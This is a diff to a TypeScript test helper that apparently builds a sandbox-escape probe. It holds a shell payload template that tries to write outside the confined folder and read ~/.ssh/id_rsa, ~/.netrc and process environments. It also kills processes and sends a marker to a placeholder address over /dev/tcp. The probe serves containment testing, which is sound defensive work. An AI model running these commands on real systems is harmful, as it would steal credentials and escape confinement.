@@ -7,16 +7,16 @@ import { chmodSync, linkSync, mkdirSync, symlinkSync, writeFileSync } from "node
 import { dirname, join } from "node:path";
 import { filled, type Places } from "./places.ts";
 
-/** What runs where anything in the folder gets to run: it tries everything quickly, and says nothing. */
+/** What runs where anything in the folder gets to run. It tries everything with few processes, so that it costs little. */
 const payload = `#!/bin/sh
 for f in @OUTSIDE@/@MARK@ @OUTSIDE@/secret.txt @HOME@/@MARK@ @HOME@/.bashrc @WORKSPACE@/@MARK@ @DATA@/@MARK@ /tmp/@MARK@ \\
   /var/tmp/@MARK@ /dev/shm/@MARK@ /etc/@MARK@ /usr/local/bin/@MARK@ /root/@MARK@ /@MARK@ link-absolute link-relative \\
   link-root link-folder/@MARK@ /proc/1/root/tmp/@MARK@ /proc/sys/kernel/printk_ratelimit_burst; do
-  (echo x > "$f") 2>/dev/null
+  { echo x > "$f"; } 2>/dev/null
 done
 for f in @OUTSIDE@/secret.txt @HOME@/.netrc @HOME@/.ssh/id_rsa @WORKSPACE@/canary.txt @DATA@/canary.txt @CONFIG@ \\
   /proc/@BOT@/environ /proc/@BAIT@/cmdline /dev/shm/@MARK@.canary link-absolute link-relative link-root; do
-  cat "$f" 2>/dev/null
+  { read -r line < "$f" && echo "$line"; } 2>/dev/null
 done
 kill -9 @BAIT@ @BOT@ 2>/dev/null
 bash -c 'echo @MARK@ > /dev/tcp/@ADDRESS@/@TCP@; echo @MARK@ > /dev/udp/127.0.0.1/@UDP@' 2>/dev/null
